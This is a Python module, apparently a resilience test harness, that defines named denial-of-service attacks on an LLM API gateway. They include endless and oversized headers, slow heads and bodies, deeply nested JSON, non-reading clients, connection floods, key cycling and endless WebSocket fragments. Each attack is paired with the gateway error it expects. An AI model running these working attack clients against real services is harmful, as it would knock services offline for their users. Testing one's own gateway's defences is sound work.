"""Attacks on a gateway by name. Each uses a fixed number of connections until it is cancelled, and
counts its activity.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import socket
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Final, Literal
from urllib.parse import urlsplit

# Seconds between the pieces of slow attacks, and before a lost connection is reopened.
_SLOW_S: Final = 1.0
_AGAIN_S: Final = 0.05
_TINY: Final = b'{"role":"user","content":"hi"}'
_NEW_LINE: Final = b"\r\n"
# Buffer size of a client that does not read.
_NARROW: Final = 4096
# A client's WebSocket frames, masked with zeros.
_MASK: Final = b"\x00" * 4
ATTACKER: Final = "attacker"
MANY_KEYS: Final = tuple(f"key-{number}" for number in range(4096))
_CLOSE: Final = b"\x88"


@dataclass(slots=True)
class Activity:
    """An attacker's activity.

    open: connections that are open now. served: answers with a status below 400, including opened
    WebSockets. refused: other answers. closed: connections that the gateway closed early.
    """

    connections: int = 0
    open: int = 0
    sent_bytes: int = 0
    served: int = 0
    refused: int = 0
    closed: int = 0


@dataclass(frozen=True, slots=True)
class Target:
    """The target of an attack. model: served by an engine that the honest client does not use."""

    host: str
    port: int
    model: str

    @classmethod
    def at(cls, url: str, model: str) -> Target:
        """Return the target at a base URL."""
        parts = urlsplit(url)
        return cls(parts.hostname or "127.0.0.1", parts.port or 80, model)

    def head(
        self,
        length: int | None = None,
        key: str = ATTACKER,
        line: str = "POST /v1/chat/completions",
    ) -> bytes:
        """Return the head of a call.

        length: bytes of the body, or None for a head without an end.
        """
        lines = (
            f"{line} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"Authorization: Bearer {key}\r\nContent-Type: application/json\r\n"
        )
        return (lines if length is None else f"{lines}Content-Length: {length}\r\n\r\n").encode()

    def call(self, key: str = ATTACKER, **more: object) -> bytes:
        """Return a small call."""
        messages = [{"role": "user", "content": "hi"}]
        body = json.dumps({"model": self.model, "messages": messages, "max_tokens": 1, **more})
        return self.head(len(body), key) + body.encode()

    def body_of(self, size: int) -> bytes:
        """Return a call of about `size` bytes of tiny messages."""
        count = size // (len(_TINY) + 1)
        begun = f'{{"model":"{self.model}","max_tokens":1,"messages":['.encode()
        body = begun + b",".join([_TINY] * count) + b"]}"
        return self.head(len(body)) + body


class Link:
    """One connection of an attacker."""

    def __init__(
        self,
        target: Target,
        did: Activity,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> None:
        self.target = target
        self._did = did
        self._reader = reader
        self._writer = writer

    async def send(self, data: bytes) -> None:
        """Send as fast as the gateway reads."""
        self._writer.write(data)
        self._did.sent_bytes += len(data)
        await self._writer.drain()

    async def answer(self) -> bool:
        """Read one whole answer. Returns whether its status is below 400."""
        head = await self._reader.readuntil(b"\r\n\r\n")
        length = head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]
        await self._reader.readexactly(int(length or 0))
        served = int(head.split(None, 2)[1]) < 400
        if served:
            self._did.served += 1
        else:
            self._did.refused += 1
        return served

    async def repeat(self, piece: bytes, every_s: float = 0.0) -> None:
        """Send a piece repeatedly until the gateway answers or closes the connection."""

        async def send() -> None:
            while True:
                await self.send(piece)
                await asyncio.sleep(every_s)

        sending = asyncio.ensure_future(send())
        try:
            await self.answer()
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)

    async def stop_reading(self, piece: bytes) -> None:
        """Stop reading for good.

        The method keeps writing `piece`, which has no effect, to detect that the gateway has closed
        the connection.
        """
        transport = self._writer.transport
        assert isinstance(transport, asyncio.ReadTransport)
        transport.pause_reading()
        while True:
            await self.send(piece)
            await asyncio.sleep(_SLOW_S / 10)

    async def upgrade(self) -> bool:
        """Open a WebSocket. Returns whether the gateway accepts it."""
        await self.send(
            self.target.head(line="GET /v1/responses")
            + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
        )
        return await self.answer()

    async def closing(self) -> None:
        """Wait for the gateway's closing frame."""
        if await self._reader.readexactly(1) == _CLOSE:
            self._did.closed += 1

    def abort(self) -> None:
        """Reset the connection."""
        self._writer.transport.abort()


Client = Callable[[Link], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack with `count` connections at once, each reopened after its end.

    sign: the count of `Activity` that grows when the attack works. code: of the errors by which the
    gateway ends it, "" if it serves the calls. settings: of the gateway. receives: bytes of the
    attacker's receive buffer, 0 for the system's default.
    """

    count: int
    client: Client
    sign: Literal["connections", "sent_bytes", "served", "refused", "closed"]
    code: str = ""
    settings: dict[str, float] = field(default_factory=dict)
    receives: int = 0

    async def run(self, target: Target, did: Activity) -> None:
        """Attack until cancelled."""

        async def one() -> None:
            while True:
                with contextlib.suppress(OSError):
                    reader, writer = await self._open(target)
                    did.connections += 1
                    did.open += 1
                    try:
                        await self.client(Link(target, did, reader, writer))
                    except (OSError, asyncio.IncompleteReadError):
                        did.closed += 1
                    finally:
                        did.open -= 1
                        writer.close()
                await asyncio.sleep(_AGAIN_S)

        await asyncio.gather(*(one() for _ in range(self.count)))

    async def _open(self, target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        link = socket.socket()
        link.setblocking(False)
        if self.receives:
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receives)
        try:
            await asyncio.get_running_loop().sock_connect(link, (target.host, target.port))
            return await asyncio.open_connection(sock=link)
        except BaseException:
            link.close()
            raise


def _begun(begin: bytes, piece: bytes, every_s: float = 0.0, length: int | None = None) -> Client:
    """Return a client whose request begins and never ends."""

    async def client(link: Link) -> None:
        await link.send(link.target.head(length) + begin)
        await link.repeat(piece, every_s)

    return client


def _calls(*make: Callable[[Target], bytes]) -> Client:
    """Return a client that sends these calls in turn."""
    turns = itertools.cycle(make)

    async def client(link: Link) -> None:
        while True:
            await link.send(next(turns)(link.target))
            await link.answer()

    return client


def _tiny_messages(size: int) -> Client:
    return _calls(lambda target: target.body_of(size))


def _deep(name: str, depth: int) -> Callable[[Target], bytes]:
    def call(target: Target) -> bytes:
        body = f'{{"model":"{target.model}","{name}":{"[" * depth}{"]" * depth}}}'.encode()
        return target.head(len(body)) + body

    return call


def _many_keys() -> Client:
    keys = itertools.cycle(MANY_KEYS)
    return _calls(lambda target: target.call(next(keys)))


async def _slow_reader(link: Link) -> None:
    await link.send(link.target.call(stream=True, max_tokens=1_000_000))
    await link.stop_reading(_NEW_LINE)


async def _flood(link: Link) -> None:
    link.abort()


def frame(first: int, payload: bytes) -> bytes:
    """Return a WebSocket frame. first: its first byte."""
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big")
    return bytes([first]) + length + _MASK + payload


def _endless_message(fragment: bytes, count: int) -> Client:
    """Return a client whose WebSocket message has endless fragments."""

    async def client(link: Link) -> None:
        if await link.upgrade():
            await link.send(frame(0x01, b"{"))
            sending = asyncio.ensure_future(_pour(link, frame(0x00, fragment) * count))
            try:
                await link.closing()
            finally:
                sending.cancel()
                await asyncio.gather(sending, return_exceptions=True)

    return client


async def _pour(link: Link, piece: bytes) -> None:
    while True:
        await link.send(piece)
        await asyncio.sleep(0)


_LINES: Final = b"".join(b"x-%d: %b\r\n" % (number, b"a" * 1000) for number in range(64))
_DEEP: Final = [
    _deep(n, d) for n in ("messages", "prompt", "input", "tools") for d in (900, 500_000)
]

ATTACKS: Final[dict[str, Attack]] = {
    "endless headers": Attack(8, _begun(b"", _LINES), "refused", "head_too_large"),
    "one endless header": Attack(
        8, _begun(b"x-long: ", b"a" * 65_536), "refused", "head_too_large"
    ),
    "many headers": Attack(
        8, _calls(lambda target: target.head() + b"a: b\r\n" * 10_000 + _NEW_LINE),
        "refused", "too_many_headers",
    ),
    "slow heads": Attack(
        500, _begun(b"", b"a: b\r\n", _SLOW_S), "refused", "head_timeout", {"head_timeout_s": 0.5}
    ),
    "slow bodies": Attack(
        500, _begun(b"{", b" ", _SLOW_S, 1_000_000), "refused", "body_timeout",
        {"body_timeout_s": 0.5},
    ),
    "deep bodies": Attack(8, _calls(*_DEEP), "refused", "too_deeply_nested"),
    "slow readers": Attack(
        64, _slow_reader, "closed", "client_stalled", {"send_timeout_s": 0.5}, _NARROW
    ),
    "1 MB of tiny messages": Attack(8, _tiny_messages(1_000_000), "served"),
    "connection flood": Attack(100, _flood, "connections"),
    "many keys": Attack(16, _many_keys(), "served"),
    "endless WebSocket message": Attack(8, _endless_message(b"a" * 65_535, 4), "closed"),
    "endless tiny fragments": Attack(8, _endless_message(b"a", 10_000), "sent_bytes"),
}  # fmt: skip
